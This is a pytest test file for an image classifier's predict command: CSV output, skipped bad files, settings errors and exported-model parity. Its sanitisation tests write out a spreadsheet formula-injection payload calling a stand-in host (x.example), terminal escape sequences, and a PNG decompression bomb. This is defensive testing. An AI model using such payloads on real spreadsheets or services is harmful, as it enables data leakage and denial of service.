"""`python predict.py ckpt_path=... input=...`: a CSV of the classes of a user's image files."""

import csv
import shutil
from pathlib import Path

import pytest
from helpers import ROOT, compose_config, photo, png_bomb, run_in_process, write_cnn_checkpoint

from litforge.deploy.predict import predict
from litforge.errors import UserError


def read_rows(run_dir) -> dict[str, dict[str, str]]:
    with open(run_dir / "predictions.csv", newline="") as f:
        return {row["path"]: row for row in csv.DictReader(f)}


def test_predictions_equal_the_models_own_test_time_predictions(tmp_path, trained_images):
    overrides = [
        f"ckpt_path={trained_images.checkpoint}",
        f"input={trained_images.root / 'test'}",
        "predict.top_k=2",
        "predict.batch_size=5",  # batches that do not divide the images
        "predict.device=cpu",
    ]
    counts = predict(compose_config("predict", tmp_path, overrides))
    rows = read_rows(tmp_path / "run")
    assert list(next(iter(rows.values()))) == [
        "path", "label", "probability", "label_2", "probability_2",
    ]  # fmt: skip
    assert len(rows) == len(trained_images.test_files) == sum(counts.values())
    names = trained_images.class_names
    for path, expected in zip(trained_images.test_files, trained_images.probabilities, strict=True):
        row = rows[str(path)]
        best, second = expected.topk(2).indices.tolist()
        assert (row["label"], row["label_2"]) == (names[best], names[second]), path
        assert float(row["probability"]) == pytest.approx(expected[best].item(), abs=2e-6)
        assert float(row["probability_2"]) == pytest.approx(expected[second].item(), abs=2e-6)
    # the model learned the classes: its predictions are mostly the folder's class
    right = sum(row["label"] == Path(path).parent.name for path, row in rows.items())
    assert right / len(rows) > 0.9


@pytest.fixture
def folder_with_bad_files(tmp_path, trained_images):
    folder = tmp_path / "photos"
    shutil.copytree(trained_images.root / "test" / "a", folder)
    (folder / "broken.png").write_bytes(b"\x89PNG but not really")
    (folder / "notes.txt").write_text("not an image, and not named like one: ignored")
    (folder / ".hidden.png").write_bytes(b"macOS metadata")
    return folder


def test_unreadable_file_is_skipped_and_named(
    tmp_path, trained_images, folder_with_bad_files, caplog
):
    overrides = [f"ckpt_path={trained_images.checkpoint}", f"input={folder_with_bad_files}"]
    predict(compose_config("predict", tmp_path, overrides))
    rows = read_rows(tmp_path / "run")
    assert len(rows) == 8 and not any("broken" in path for path in rows)
    assert list(next(iter(rows.values())))[-2:] == ["label_3", "probability_3"]  # top_k=3
    skipped = [r.message for r in caplog.records if r.message.startswith("Skipped")]
    assert len(skipped) == 1 and "broken.png" in skipped[0], skipped


def test_unreadable_file_stops_with_on_bad_file_error(
    tmp_path, trained_images, folder_with_bad_files
):
    overrides = [
        f"ckpt_path={trained_images.checkpoint}",
        f"input={folder_with_bad_files}",
        "predict.on_bad_file=error",
    ]
    with pytest.raises(UserError, match=r"cannot decode .*broken\.png.*predict\.on_bad_file=skip"):
        predict(compose_config("predict", tmp_path, overrides))
    assert not list((tmp_path / "run").glob("predictions.csv*")), "no CSV, whole or partial"


def test_top_k_beyond_the_classes_gives_every_class_once(tmp_path, trained_images):
    overrides = [
        f"ckpt_path={trained_images.checkpoint}",
        f"input={trained_images.test_files[0]}",
        "predict.top_k=5",
    ]
    predict(compose_config("predict", tmp_path, overrides))
    (row,) = read_rows(tmp_path / "run").values()
    assert list(row)[-2:] == ["label_3", "probability_3"] and None not in row.values()
    assert sorted(row[key] for key in ("label", "label_2", "label_3")) == ["a", "b", "c"]


def test_empty_files_and_images_of_too_many_pixels_are_skipped_unread(
    tmp_path, trained_images, folder_with_bad_files, caplog
):
    (folder_with_bad_files / "empty.jpg").write_bytes(b"")
    (folder_with_bad_files / "bomb.png").write_bytes(png_bomb(10_000, 10_000))  # 100 KB
    overrides = [f"ckpt_path={trained_images.checkpoint}", f"input={folder_with_bad_files}"]
    predict(compose_config("predict", tmp_path, overrides))
    assert len(read_rows(tmp_path / "run")) == 8  # the 20x24 images pass
    skipped = {name: [r.message for r in caplog.records if name in r.message] for name in
               ("empty.jpg", "bomb.png")}  # fmt: skip
    assert "an empty file (0 bytes)" in skipped["empty.jpg"][0]
    assert "10000x10000 pixels, more than the 89,478,485" in skipped["bomb.png"][0]

    # The limit is a setting: here lower than the 20x24 images, so none decodes.
    low = [*overrides, "predict.max_image_pixels=400"]
    with pytest.raises(UserError, match="none of its 11 file"):
        predict(compose_config("predict", tmp_path / "low", low))
    assert "24x20 pixels, more than the 400" in caplog.text


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        (["input=x.png"], "no model given"),
        (["ckpt_path=a.ckpt", "model_path=b.onnx", "input=x.png"], "both ckpt_path and model_path"),
        (["ckpt_path=missing.ckpt", f"input={ROOT / 'README.md'}"], "missing.ckpt: no such file"),
        (["input=nowhere/*.jpg", "ckpt_path=a.ckpt"], r"input=nowhere/\*\.jpg matches no files"),
        (
            ["predict.on_bad_file=ignore", "ckpt_path=a.ckpt"],
            "on_bad_file=ignore: must be one of: skip, error.",
        ),
        (["predict.top_k=0", "ckpt_path=a.ckpt"], r"predict\.top_k=0: must be > 0\."),
        (["predict.device=gpu", "ckpt_path=a.ckpt", f"input={ROOT / 'README.md'}"], "is no device"),
    ],
)
def test_bad_settings_are_one_line_errors(tmp_path, overrides, message):
    with pytest.raises(UserError, match=message):
        predict(compose_config("predict", tmp_path, overrides))


@pytest.mark.slow
def test_an_exported_model_given_as_ckpt_path_predicts_as_with_model_path(
    tmp_path, trained_images, exported_pt2
):
    given = [f"input={trained_images.root / 'test'}", "predict.device=cpu"]
    predicted = {}
    for key in ("ckpt_path", "model_path"):
        predict(compose_config("predict", tmp_path / key, [f"{key}={exported_pt2}", *given]))
        predicted[key] = {
            path: row["label"] for path, row in read_rows(tmp_path / key / "run").items()
        }
    assert predicted["ckpt_path"] == predicted["model_path"]
    assert len(predicted["ckpt_path"]) == len(trained_images.test_files)


def test_cli_predicts_a_glob_with_an_exported_model(tmp_path, trained_images, exported_pt2):
    """As the README has it, with a .pt2 file: the same classes as the checkpoint."""
    pattern = f"{trained_images.root}/**/000?.png"  # of each class, 5 PNGs in train/, 4 in test/
    result = run_in_process(
        "predict.py",
        f"model_path={exported_pt2}",
        f"input={pattern}",
        "predict.device=cpu",
        f"hydra.run.dir={tmp_path}",
    )
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Predicted classes" in result.stdout
    assert f"Predictions: {tmp_path / 'predictions.csv'}" in result.stdout
    rows = read_rows(tmp_path)
    assert len(rows) == 3 * (5 + 4)
    names = trained_images.class_names
    compared = 0
    for path, expected in zip(trained_images.test_files, trained_images.probabilities, strict=True):
        if str(path) in rows:
            assert rows[str(path)]["label"] == names[int(expected.argmax())]
            assert float(rows[str(path)]["probability"]) == pytest.approx(
                expected.max().item(), abs=2e-6
            )
            compared += 1
    assert compared == 3 * 4  # the test PNGs the glob matched


def test_model_path_of_a_text_file_is_named_as_model_path(tmp_path):
    notes = tmp_path / "notes.txt"
    notes.write_text("not a model")
    overrides = [f"model_path={notes}", f"input={ROOT / 'README.md'}"]
    with pytest.raises(UserError, match=f"^model_path={notes} is neither a .onnx nor a .pt2"):
        predict(compose_config("predict", tmp_path, overrides))


def test_text_from_files_is_written_as_text_a_spreadsheet_runs_no_formula_of(
    tmp_path, monkeypatch, capsys
):
    """Class names come from a checkpoint, file names from the input folder: a cell starting as a
    formula (= + - @, a tab or CR) gets a leading ', control characters are written as \\x1b
    (OWASP's CSV injection guidance); the probabilities stay numbers."""
    names = (
        '=HYPERLINK("http://x.example/?"&A1,"open")',
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\tTab",
        "\rreturn",
        "bell\x07esc\x1b[31mred",
        "[/]Coat",  # console markup, shown as it is
    )
    checkpoint = write_cnn_checkpoint(tmp_path / "cnn.ckpt", 128, class_names=names)
    photos = tmp_path / "photos"
    photos.mkdir()
    (photos / "=1+1.jpg").write_bytes(photo(0))
    (photos / "x\x1b[2J.png").write_bytes(photo(1, file_format="PNG"))
    monkeypatch.chdir(photos)  # input=*.*: the file names as the CSV's paths
    overrides = [f"ckpt_path={checkpoint}", "input=*.*", "predict.top_k=8", "predict.device=cpu"]
    predict(compose_config("predict", tmp_path, overrides))

    text = (tmp_path / "run" / "predictions.csv").read_text()
    assert not {"\x07", "\x1b", "\t"} & set(text)
    header, *rows = list(csv.reader(text.splitlines()))
    assert [row[0] for row in rows] == ["'=1+1.jpg", "x\\x1b[2J.png"]
    for row in rows:
        assert sorted(row[1::2]) == sorted(
            [
                '\'=HYPERLINK("http://x.example/?"&A1,"open")',
                "'+1+1",
                "'-1+1",
                "'@SUM(A1:A9)",
                "'\\x09Tab",
                "'\\x0dreturn",
                "bell\\x07esc\\x1b[31mred",
                "[/]Coat",
            ]
        )
        assert all(0 <= float(p) <= 1 for p in row[2::2])  # numbers: no ' before them
    console = capsys.readouterr().out
    assert "\x1b" not in console and "\x07" not in console
    for row in rows:  # the counts per class, of the names as the CSV shows them
        assert row[1].removeprefix("'") in console


def test_the_console_shows_class_names_as_text(tmp_path, capsys):
    from collections import Counter

    from litforge.deploy.predict import summarize

    summarize(Counter({"[/]Coat": 2, "[bold]Bag": 1, "bell\x07esc\x1b[2J": 1}), 0, tmp_path)
    console = capsys.readouterr().out
    assert "[/]Coat" in console and "[bold]Bag" in console  # no console markup
    assert "bell\\x07esc\\x1b[2J" in console and "\x1b" not in console
